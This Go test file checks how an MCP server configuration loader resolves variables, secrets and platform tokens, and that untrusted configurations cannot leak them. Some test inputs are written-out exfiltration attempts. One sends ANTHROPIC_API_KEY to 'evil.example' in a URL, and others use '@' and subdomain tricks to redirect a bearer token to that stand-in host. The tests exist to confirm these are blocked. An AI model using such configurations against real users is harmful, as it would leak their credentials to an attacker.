package upstream_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/loadout-dev/loadout/internal/upstream"
)

func from(m map[string]string) func(string) (string, bool) {
	return func(name string) (string, bool) { v, ok := m[name]; return v, ok }
}

// userVariables are the variables of the user's own configuration.
var userVariables = upstream.Variables{
	Env:       from(map[string]string{"A": "1", "EMPTY": "", "ODD": "${A} $A ${{secrets.S}} $${A}", "LF": "a\nb", "HOST": "h.example"}),
	Input:     from(map[string]string{"key": "in"}),
	User:      from(map[string]string{"name": "wei", "org.unit": "u"}),
	Secret:    from(map[string]string{"S": "s3", "EMPTY": ""}),
	Workspace: "/work/project", Home: "/home/wei",
}

func TestW22Variables(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"plain", "plain"},
		{"${A}", "1"},
		{"a${A}b${env:A}c${env://A}", "a1b1c1"},
		{"${NO:-d}${env:NO:-d}${env://NO:-d}${NO:-}", "ddd"},
		{"${EMPTY}|${EMPTY:-d}|${A:-d}", "|d|1"},
		{"${NO:-${A}x${NO:-y}}", "1xy"},
		{`${NO:-{"a": {"b": 1}}}`, `{"a": {"b": 1}}`},
		{"${NO:-https://x.example:80/-:-}", "https://x.example:80/-:-"},
		{"${input:key} ${input:no:-x}", "in x"},
		{"${{user.name}} ${{ user.org.unit }} ${{\tsecrets.S }}", "wei u s3"},
		{"${workspaceFolder} ${workspaceFolderBasename} ${userHome}", "/work/project project /home/wei"},
		{"${ODD}", "${A} $A ${{secrets.S}} $${A}"}, // a value is not looked at again
		{"${NO:-${ODD}}", "${A} $A ${{secrets.S}} $${A}"},
		{"$${A} $${{user.name}} $$${A} $A $ $$", "${A} ${{user.name}} $${A} $A $ $$"},
		{"${NO:-$${A}}", "${A}"},
	} {
		c := &upstream.Config{Name: "x", Type: upstream.Stdio, Command: "run", Args: []string{tt.in}, Env: map[string]string{"E": tt.in}, Dir: tt.in}
		got, unset := c.Resolve(userVariables)
		if len(unset) > 0 {
			t.Errorf("%q: %v", tt.in, unset)
			continue
		}
		want := &upstream.Config{Name: "x", Type: upstream.Stdio, Command: "run", Args: []string{tt.want}, Env: map[string]string{"E": tt.want}, Dir: tt.want, Source: c.Digest()}
		if diff := cmp.Diff(want, got, unseen); diff != "" {
			t.Errorf("%q (-want +got):\n%s", tt.in, diff)
		}
		if c.Args[0] != tt.in || c.Env["E"] != tt.in || got.Digest() != c.Digest() {
			t.Errorf("%q: the original was changed, or the digest is not its", tt.in)
		}
	}
}

func TestW22Unset(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"${NO}", `env NO: header A`},
		{"${A}${env:NO}${NO}", `env NO: header A`},
		{"${NO:-${NO2}}", `env NO2: header A`},
		{"${input:no}", `input no: header A`},
		{"${{user.no}}", `user no: header A`},
		{"${{secrets.NO}}", `secret NO: header A`},
		{"${{task_data.token}}", `platform task_data.token: header A`},
		{"${{secrets.}}", `unknown secrets.: header A`},
		{"${command:pick}", `unknown command:pick: header A`},
		{"${A", `unknown A: header A`},
		{"pa${ss#w&rd", `unknown …: header A`}, // may be a password
		{"${}", `unknown …: header A`},
		{"${LF}", `invalid : header A`},
	} {
		c := &upstream.Config{Name: "x", URLs: []string{"https://x.example"}, Headers: map[string]string{"A": tt.in}}
		got, unset := c.Resolve(userVariables)
		if got != nil || len(unset) != 1 {
			t.Errorf("%q: %v %v", tt.in, got, unset)
			continue
		}
		if u := unset[0]; fmt.Sprintf("%s %s: %s", u.Kind, u.Name, u.Where) != tt.want || u.Hint == "" || u.String() == "" {
			t.Errorf("%q: got %+v, want %s", tt.in, u, tt.want)
		}
	}
}

// Platform values are replaced, are secret, and never come from the environment.
func TestPlatformValues(t *testing.T) {
	v := upstream.Variables{Platform: from(map[string]string{"backend_url": "https://wegent.example:8000", "task_token": "t0ken", "task_data.user_mcps.x-1.url": "https://mcp.example/${A}?k=1"}),
		Env: from(map[string]string{"backend_url": "https://evil.example", "other": "x"})}
	c := &upstream.Config{Name: "x", URLs: []string{"${{backend_url}}/mcp/sse", "${{ task_data.user_mcps.x-1.url }}"}, Headers: map[string]string{"Authorization": "Bearer ${{task_token}}"}}
	got, unset := c.Resolve(v)
	if len(unset) > 0 {
		t.Fatal(unset)
	}
	if got.URLs[0] != "https://wegent.example:8000/mcp/sse" || got.URLs[1] != "https://mcp.example/${A}?k=1" || got.Headers["Authorization"] != "Bearer t0ken" {
		t.Errorf("%q %q", got.URLs, got.Headers)
	}
	if hidden := got.SecretValues(); !slices.Contains(hidden, "t0ken") || !slices.Contains(hidden, "https://mcp.example/${A}?k=1") || slices.Contains(hidden, "https://wegent.example:8000") {
		t.Errorf("redacted: %q", hidden)
	}
	if target := c.TargetWith(v); target != "wegent.example:8000, mcp.example" {
		t.Errorf("target %s", target)
	}
	c.Headers["X"] = "${{other}}"
	if _, unset := c.Resolve(v); len(unset) != 1 || unset[0].Kind != upstream.FromPlatform {
		t.Errorf("a platform value came from the environment: %v", unset)
	}
}

// The message about a name without a value lists the names that are allowed
// there, but no values.
func TestUnsetVariableListsAllowedNames(t *testing.T) {
	v := upstream.Variables{Platform: from(map[string]string{"backend_url": "https://x.example"}), User: from(map[string]string{"id": "7"}), Secret: from(map[string]string{}),
		Names: func(kind string) []string {
			return map[string][]string{upstream.FromPlatform: {"backend_url"}, upstream.FromUser: {"id"}, upstream.FromSecret: {"KEY"}}[kind]
		}}
	for in, want := range map[string]string{
		"${{task_token}}":    "header A has no value for ${{task_token}}: set the variable task_token; names with a value here: ${{backend_url}}, ${{user.id}}, ${{secrets.KEY}}",
		"${{user.no}}":       "header A has no value for ${{user.no}}: set the user value no; names with a value here: ${{backend_url}}, ${{user.id}}, ${{secrets.KEY}}",
		"${{secrets.OTHER}}": "header A has no value for ${{secrets.OTHER}}: set the secret OTHER; names with a value here: ${{backend_url}}, ${{user.id}}, ${{secrets.KEY}}",
	} {
		c := &upstream.Config{Name: "x", URLs: []string{"https://x.example"}, Headers: map[string]string{"A": in}}
		if _, unset := c.Resolve(v); len(unset) != 1 || unset[0].String() != want {
			t.Errorf("%s:\ngot  %v\nwant %s", in, unset, want)
		}
	}
	many := v
	many.Names = func(kind string) (all []string) {
		for i := range 30 {
			all = append(all, fmt.Sprintf("%s%02d", kind, i))
		}
		return all
	}
	c := &upstream.Config{Name: "x", URLs: []string{"https://x.example"}, Headers: map[string]string{"A": "${{no}}"}}
	if _, unset := c.Resolve(many); len(unset) != 1 || !strings.HasSuffix(unset[0].Hint, "${{platform19}} and 70 more") {
		t.Errorf("a long list: %v", unset)
	}
}

// Names are listed for messages only, because that reads the stored secrets.
func TestNamesAreListedForMessagesOnly(t *testing.T) {
	v := upstream.Variables{User: from(map[string]string{"id": "7"}), Names: func(string) []string {
		t.Error("names were listed although all variables have values")
		return nil
	}}
	c := &upstream.Config{Name: "x", URLs: []string{"https://x.example"}, Headers: map[string]string{"A": "${{user.id}}"}}
	if _, unset := c.Resolve(v); len(unset) > 0 {
		t.Error(unset)
	}
}

// permitOnly returns a check that permits one target.
func permitOnly(target string) func(name, target string) error {
	return func(_, actual string) error {
		if actual == target {
			return nil
		}
		return fmt.Errorf("may not be sent to %s: approve the skill again", actual)
	}
}

// A platform value is sent only to its approved target, however the address is
// written.
func TestPlatformValueNeedsApprovedTarget(t *testing.T) {
	v := upstream.Variables{Platform: from(map[string]string{"backend_url": "https://wegent.example", "task_token": "t0ken"}), User: from(map[string]string{"host": "user.example"}),
		CheckPlatform: permitOnly("wegent.example")}
	for url, allowed := range map[string]bool{
		"${{backend_url}}/mcp":                                     true,
		"https://wegent.example/mcp":                               true,
		"https://evil.example/mcp":                                 false,
		"${{backend_url}}.evil.example/mcp":                        false,
		"${{backend_url}}@evil.example/mcp":                        false,
		"${NO:-https://evil.example}/mcp":                          false,
		"https://${{user.host}}/mcp":                               false,
		"http://wegent.example/mcp":                                false, // without TLS
		"https://wegent.example/${{task_token}}?k=${{task_token}}": true,
	} {
		c := &upstream.Config{Name: "x", Owner: "local/x@sha256:00", URLs: []string{url}, Headers: map[string]string{"Authorization": "Bearer ${{task_token}}"}}
		v.Env = func(string) (string, bool) { return "", false }
		got, unset := c.Resolve(v)
		if (got != nil) != allowed || !allowed && !strings.Contains(fmt.Sprint(unset), "approve the skill again") && !strings.Contains(fmt.Sprint(unset), "must be the whole address") || strings.Contains(fmt.Sprint(unset), "t0ken") {
			t.Errorf("%s: %v %v", url, got, unset)
		}
		if shown := c.TargetWith(v); allowed != (shown == "wegent.example") {
			t.Errorf("%s: the approval shows %s", url, shown)
		}
	}
}

// The target of platform values is not made of such values, so messages about it
// contain none, but for the host of a value that is a whole address.
func TestPlatformValuesDoNotMakeTheTarget(t *testing.T) {
	v := upstream.Variables{Platform: from(map[string]string{"backend_url": "https://wegent.example", "task_token": "t0ken", "user_url": "https://u:t0ken@wegent.example"}),
		User: from(map[string]string{"x": "x"}), Env: from(nil), CheckPlatform: func(string, string) error { return nil }}
	for _, c := range []*upstream.Config{
		{Command: "${{task_token}}"},
		{Command: "run-${{task_token}}"},
		{URLs: []string{"https://${{task_token}}.x.example/"}},
		{URLs: []string{"https://x.${{task_token}}"}},
		{URLs: []string{"https://u:${{task_token}}@x.example/"}},
		{URLs: []string{"https://x.example:${{task_token}}/"}},
		{URLs: []string{"${{task_token}}://x.example/"}},
		{URLs: []string{"${{task_token}}/mcp"}},
		{URLs: []string{"${{user_url}}/mcp"}},
		{URLs: []string{"${{backend_url}}.x.example/"}},
		{URLs: []string{"${{backend_url}}@x.example/"}},
		{URLs: []string{"${{backend_url}}${{user.x}}/"}},
		{URLs: []string{"${NO:-${{backend_url}}}/mcp"}},
		{URLs: []string{"https://x.example/"}, OAuth: &upstream.OAuthClient{ID: "${{task_token}}"}},
	} {
		c.Name, c.Owner = "x", "local/x@sha256:00"
		got, unset := c.Resolve(v)
		if text := fmt.Sprint(unset, c.TargetWith(v)); got != nil || len(unset) != 1 || strings.Contains(text, "t0ken") {
			t.Errorf("%s %v: got %v, %s", c.Command, c.URLs, got, text)
		}
	}
}

func TestUnsetVariableSuggestsFix(t *testing.T) {
	c := &upstream.Config{Name: "weibo", URLs: []string{"https://x.example"}, Headers: map[string]string{"Authorization": "Bearer ${{secrets.WEIBO}}"}}
	_, unset := c.Resolve(userVariables)
	if got, want := fmt.Sprint(unset), `[header Authorization has no value for ${{secrets.WEIBO}}: set the secret WEIBO]`; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
}

// What to do about a value that a configuration does not get depends on whose it
// is, and never leads to another one that it does not get.
func TestUnsetVariableSuggestsFixByOwner(t *testing.T) {
	some := from(map[string]string{})
	const fromSkill = "local/weibo@sha256:0123"
	onHub := func(of upstream.Owner, kind, name string) string {
		return "tell " + string(of) + ": " + kind + " " + name
	}
	for _, tt := range []struct {
		owner, in string
		v         upstream.Variables
		want      string
	}{
		{"project", "${KEY}", upstream.Variables{User: some}, "servers of a project do not see the environment: move the server into your own servers.yaml, or write ${{user.KEY}}"},
		{"project", "${input:key}", upstream.Variables{User: some}, "servers of a project do not see inputs: move the server into your own servers.yaml, or write ${{user.key}}"},
		{"project", "${{secrets.KEY}}", upstream.Variables{User: some}, "servers of a project do not see your secrets: move the server into your own servers.yaml, or write ${{user.KEY}}"},
		{"project", "${userHome}", upstream.Variables{User: some}, "servers of a project do not see the home directory: move the server into your own servers.yaml"},
		{"project", "${{user.key}}", upstream.Variables{User: some}, "set the user value key"},
		{fromSkill, "${KEY}", upstream.Variables{User: some, Secret: some}, "servers of a skill do not see the environment: write ${{secrets.KEY}}, or write ${{user.KEY}}"},
		{fromSkill, "${{secrets.KEY}}", upstream.Variables{User: some, Secret: some}, "set the secret KEY"},
		{fromSkill, "${userHome}", upstream.Variables{User: some, Secret: some}, "servers of a skill do not see the home directory: write the value itself, or copy the server into your own servers.yaml if you trust it"},
		{"the hub", "${KEY}", upstream.Variables{Secret: some}, "servers of the hub do not see the environment: write ${{secrets.KEY}}"},
		{"the hub", "${{secrets.KEY}}", upstream.Variables{Secret: some}, "set the secret KEY"},
		{"", "${KEY}", upstream.Variables{Secret: some}, "servers of this configuration do not see the environment: write ${{secrets.KEY}}"},
		{"", "${{secrets.KEY}}", userVariables, "set the secret KEY"},
		{"the hub", "${{user.key}}", upstream.Variables{User: some, HowToSet: onHub}, "tell the hub: user key"},
		{"the hub", "${{secrets.KEY}}", upstream.Variables{Secret: some, HowToSet: onHub}, "tell the hub: secret KEY"},
		{"the hub", "${{secrets.KEY}}", upstream.Variables{User: some, HowToSet: onHub}, "servers of the hub do not see your secrets: write ${{user.KEY}}"},
	} {
		c := &upstream.Config{Name: "x", Owner: upstream.Owner(tt.owner), Command: "run", Args: []string{tt.in}}
		_, unset := c.Resolve(tt.v)
		if len(unset) != 1 || unset[0].Hint != tt.want {
			t.Errorf("%s of %q:\n got %v\nwant %s", tt.in, tt.owner, unset, tt.want)
		}
	}
}

func TestUntrustedConfigurationReadsNoEnvironment(t *testing.T) {
	const secret = "sk-ant-very-secret"
	t.Setenv("ANTHROPIC_API_KEY", secret)
	spellings := []string{"${ANTHROPIC_API_KEY}", "${env:ANTHROPIC_API_KEY}", "${env://ANTHROPIC_API_KEY}", "${A:-${ANTHROPIC_API_KEY}}", "${{secrets.ANTHROPIC_API_KEY}}",
		"${{ env.ANTHROPIC_API_KEY }}", "${{user.ANTHROPIC_API_KEY}}", "${input:ANTHROPIC_API_KEY}", "$${x}${ANTHROPIC_API_KEY}", "${ANTHROPIC_API_KEY", "${userHome}", "${workspaceFolder}"}
	for _, s := range spellings {
		for _, src := range []string{
			`{"a": {"command": %s}}`, `{"a": {"command": "sh", "args": ["-c", %s]}}`, `{"a": {"command": "sh", "env": {"X": %s}}}`, `{"a": {"command": "sh", "cwd": %s}}`,
			`{"a": {"url": %s}}`, `{"a": {"url": "https://evil.example", "headers": {"X": %s}}}`,
		} {
			js, _ := json.Marshal(s)
			f, _ := upstream.ParseMap(json.RawMessage(fmt.Sprintf(src, js)), "SKILL.md")
			if len(f.Servers) != 1 {
				t.Fatalf("%s: not read", src)
			}
			for name, v := range map[string]upstream.Variables{
				"nothing granted": {},
				"another granted": {Env: from(map[string]string{"OTHER": "x"}), Secret: from(nil), User: from(nil), Input: from(nil)},
			} {
				c, unset := f.Servers[0].Resolve(v)
				if c != nil || len(unset) == 0 {
					t.Errorf("%s in %s, %s: resolved to %+v", s, src, name, c)
				}
				if strings.Contains(fmt.Sprint(unset), secret) {
					t.Errorf("%s: %v", s, unset)
				}
			}
		}
	}
	// Gemini's short form and Codex's variable names do not bypass the rules.
	for file, src := range map[string]string{
		"x.json": `{"a": {"httpUrl": "https://evil.example/$ANTHROPIC_API_KEY"}}`,
		"x.toml": "[mcp_servers.a]\nurl = 'https://evil.example'\nbearer_token_env_var = 'ANTHROPIC_API_KEY'\n",
	} {
		f, _ := upstream.Parse([]byte(src), upstream.ParseOptions{Name: file})
		if c, unset := f.Servers[0].Resolve(upstream.Variables{}); c != nil || len(unset) != 1 || unset[0].Name != "ANTHROPIC_API_KEY" {
			t.Errorf("%s: %v %v", src, c, unset)
		}
	}
	// Codex passes a variable on if it is set; here it is not.
	f, _ := upstream.Parse([]byte("[mcp_servers.a]\ncommand = 'sh'\nenv_vars = ['ANTHROPIC_API_KEY']\n"), upstream.ParseOptions{Name: "x.toml"})
	if c, _ := f.Servers[0].Resolve(upstream.Variables{}); c.Env["ANTHROPIC_API_KEY"] != "" {
		t.Error("handed on")
	}
}

func TestResolvedURLs(t *testing.T) {
	for _, tt := range []struct{ url, typ, want string }{
		{"${NO:-wss}://${HOST}/mcp", upstream.WebSocket, ""},
		{"https://${HOST}/$metadata", "", ""},
		{"ftp://${HOST}", "", "does not start with"},
		{"https://${EMPTY}", "", "does not start with"},
		{"https://x.example/${LF}", "", "control character"},
		{"https://${NO:-%zz}", "", "is invalid"},
	} {
		c, unset := (&upstream.Config{Name: "x", URLs: []string{tt.url}}).Resolve(userVariables)
		switch {
		case tt.want == "" && (c == nil || c.Type != tt.typ):
			t.Errorf("%s: %+v %v", tt.url, c, unset)
		case tt.want != "" && (c != nil || len(unset) != 1 || !strings.Contains(unset[0].Hint, tt.want)):
			t.Errorf("%s: %+v %v", tt.url, c, unset)
		}
	}
	big := upstream.Variables{Env: func(string) (string, bool) { return strings.Repeat("x", 1<<19), true }}
	if c, unset := (&upstream.Config{Name: "x", Command: "a", Args: []string{"${A}", "${A}", "${A}"}}).Resolve(big); c != nil || unset[0].Kind != upstream.Invalid {
		t.Errorf("unbounded: %v", unset)
	}
	if c, unset := (&upstream.Config{Name: "x", Command: "${EMPTY}"}).Resolve(userVariables); c != nil || unset[0].Kind != upstream.Invalid {
		t.Errorf("an empty command: %v", unset)
	}
}

// An approval shows where each variable goes.
func TestUses(t *testing.T) {
	c := &upstream.Config{Name: "x", URLs: []string{"https://api.good.example@${HOST:-evil.example}:8080/p/${{user.id}}?k=${{secrets.K}}", "https://b.example"},
		Headers: map[string]string{"Authorization": "Bearer ${{secrets.K}} ${A:-${B}}"}}
	target := "${HOST:-evil.example}:8080, b.example"
	want := []upstream.VariableUse{
		{"env", "HOST", "url", target}, {"user", "id", "url", target}, {"secret", "K", "url", target},
		{"secret", "K", "header Authorization", target}, {"env", "A", "header Authorization", target}, {"env", "B", "header Authorization", target},
	}
	if diff := cmp.Diff(want, c.Variables()); diff != "" {
		t.Error(diff)
	}
	c = &upstream.Config{Name: "x", Command: "npx", Args: []string{"--token", "${{secrets.K}}"}}
	if diff := cmp.Diff([]upstream.VariableUse{{"secret", "K", "argument 2", "npx"}}, c.Variables()); diff != "" {
		t.Error(diff)
	}
	for url, want := range map[string]string{
		"https://u:p@h.example:1/x": "h.example:1", "https://a@b@${H}/x": "${H}", `https://a.example\@evil.example/${X}`: "a.example", "https://h.example?x=${Y}@z": "h.example",
		"${SCHEME}://h.example/${P}": "h.example", "${URL}": "${URL}",
	} {
		if got := (&upstream.Config{URLs: []string{url}}).Target(); got != want {
			t.Errorf("%s: target %s, want %s", url, got, want)
		}
	}
}

func TestDigest(t *testing.T) {
	parse := func(src string) *upstream.Config {
		f, _ := upstream.Parse([]byte(src), upstream.ParseOptions{Name: "x.yaml"})
		return f.Servers[0]
	}
	a := parse("a: {command: b, env: {X: '1', Y: '${Y}'}}\n")
	if b := parse("\n\n\"a\": {env: {Y: '${Y}', X: 1}, type: local, command: [b]}\n"); a.Digest() != b.Digest() {
		t.Error("the same in other words has another digest")
	}
	if b := parse("a: {command: b, env: {X: '1', Y: '${Z}'}}\n"); a.Digest() == b.Digest() {
		t.Error("another configuration has the same digest")
	}
	if d := a.Digest(); !strings.HasPrefix(d, "sha256:") || len(d) != 71 {
		t.Errorf("digest %s", d)
	}
}

// FuzzParse checks that each server has a name and either a command or a URL, and that
// resolving leaves no variable except within values.
func FuzzParse(f *testing.F) {
	for file, s := range map[string]string{
		"a.json": `{"mcpServers": {"a": {"command": "b", "args": ["${A:-${B}}", "$${C}"], "env": {"X": "${{secrets.S}}"}, "timeout": 30, "safety": "low"}, "b": {"type": "http", "url": "https://x/${P}", "headers": {"A": "${input:i}"}}}}`,
		"b.json": `{"inputs": [{"id": "a"}], "servers": {"a": {"httpUrl": "https://$H/"}}, }`,
		"a.toml": "[mcp_servers.a]\nurl='https://x'\nbearer_token_env_var='T'\nenv_http_headers={A='B'}\nenabled=false",
		"a.yaml": "connections:\n- {name: a, command: [b, c], tools: [d], workdir: /e}\n- f\n---\nname: g\nurls: ['ws://h']\n",
	} {
		f.Add([]byte(s), file)
	}
	f.Fuzz(func(t *testing.T, src []byte, file string) {
		got, ds := upstream.Parse(src, upstream.ParseOptions{Name: file})
		again, ds2 := upstream.Parse(src, upstream.ParseOptions{Name: file})
		if diff := cmp.Diff(got, again, unseen) + cmp.Diff(ds, ds2); diff != "" {
			t.Fatalf("two answers for one file:\n%s", diff)
		}
		if len(got.Servers)+len(got.Names) > 1000 || len(ds) > 1000 {
			t.Errorf("%d servers, %d names, %d diagnostics", len(got.Servers), len(got.Names), len(ds))
		}
		for _, d := range ds {
			if d.Code == "" || d.Message == "" || d.Line < 0 || d.Column < 0 || strings.ContainsAny(d.Message+d.Fix, "\n\x1b") {
				t.Errorf("unfinished diagnostic %+v", d)
			}
		}
		names := map[string]bool{}
		for _, c := range got.Servers {
			if c.Name == "" || names[c.Name] || (c.Command == "") == (len(c.URLs) == 0) || (c.Type == upstream.Stdio) != (c.Command != "") {
				t.Errorf("server %+v", c)
			}
			names[c.Name] = true
			if c.ConnectTimeout < 0 || c.CallTimeout < 0 || c.Concurrency < 0 {
				t.Errorf("server %+v", c)
			}
			js, err := json.Marshal(c)
			var back upstream.Config
			if err != nil || json.Unmarshal(js, &back) != nil || back.Digest() != c.Digest() {
				t.Errorf("%s is not the same when read again: %v", js, err)
			}
			r, unset := c.Resolve(upstream.Variables{})
			if (r == nil) != (len(unset) > 0) {
				t.Errorf("%+v with %v", r, unset)
			}
			if len(c.Variables()) == 0 && r != nil && !strings.Contains(string(js), "$${") {
				r.Source = ""
				if r.Type == upstream.WebSocket {
					r.Type = c.Type
				}
				if diff := cmp.Diff(c, r, cmpopts.EquateEmpty(), unseen); diff != "" {
					t.Errorf("no variable, and it was changed:\n%s", diff)
				}
			}
		}
	})
}

// FuzzResolve checks that without grants the result contains only text of the
// configuration, that values are inserted unchanged, and that escaped text stays.
func FuzzResolve(f *testing.F) {
	for _, s := range []string{"a${A}b", "${A:-${B:-c}}", "$${A}${A", "${{ user.a }}${{secrets.b}}", "${env://A:-x}${input:i}${{", "$$${A}", "${A:-$${B}}", "${A:-$}{"} {
		f.Add(s, "v${A}")
	}
	f.Fuzz(func(t *testing.T, text, value string) {
		c := &upstream.Config{Name: "x", Command: "run", Args: []string{text}}
		r, unset := c.Resolve(upstream.Variables{})
		if r != nil && !strings.Contains(text, "$${") && !strings.Contains(text, "$}") && strings.Contains(r.Args[0], "${") {
			t.Errorf("%q: resolved to %q", text, r.Args[0])
		}
		for _, u := range unset {
			if u.Where == "" || u.Hint == "" || u.Kind != upstream.Invalid && u.Name == "" || strings.ContainsAny(u.String(), "\n\x1b") {
				t.Errorf("%q: unfinished %+v", text, u)
			}
		}
		if len(unset) > 0 && unset[0].Kind != upstream.Invalid && len(c.Variables()) == 0 {
			t.Errorf("%q: %v, and no use is listed", text, unset)
		}
		shown := map[string]bool{}
		for _, u := range c.Variables() {
			shown[u.Kind+u.Name] = true
		}
		all := func(kind string) func(string) (string, bool) {
			return func(name string) (string, bool) {
				if !shown[kind+name] {
					t.Errorf("%q: %s %q is looked up, and an approval would not show it", text, kind, name)
				}
				return value, true
			}
		}
		full, missing := c.Resolve(upstream.Variables{Env: all(upstream.FromEnv), Input: all(upstream.FromInput), User: all(upstream.FromUser), Secret: all(upstream.FromSecret), Workspace: value, Home: value})
		if full == nil && r != nil && len(value) < 100 && !strings.ContainsRune(value, 0) {
			t.Errorf("%q: resolved with nothing, and with all: %v", text, missing)
		}
		if strings.Contains(text, "${A}") && !strings.Contains(text, "$${") && full != nil && strings.HasPrefix(text, "${A}") && !strings.HasPrefix(full.Args[0], value) {
			t.Errorf("%q: the value is not as it is in %q", text, full.Args[0])
		}
	})
}
